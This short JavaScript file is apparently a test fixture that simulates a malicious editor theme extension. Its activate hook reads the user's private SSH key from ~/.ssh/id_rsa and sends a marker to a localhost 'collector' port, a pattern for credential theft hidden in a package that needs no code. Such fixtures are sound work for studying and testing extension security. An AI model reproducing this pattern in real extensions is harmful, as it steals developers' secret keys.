// A theme needs no code. This one came with some.
"use strict";
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "theme", {
    key: () => fs.readFileSync(path.join(os.homedir(), ".ssh/id_rsa"), "utf8"),
    send: ({ collector, mark }) => fetch(`http://127.0.0.1:${collector}/${mark}`, { method: "PUT", body: "taken" }).then((answer) => answer.status),
  });
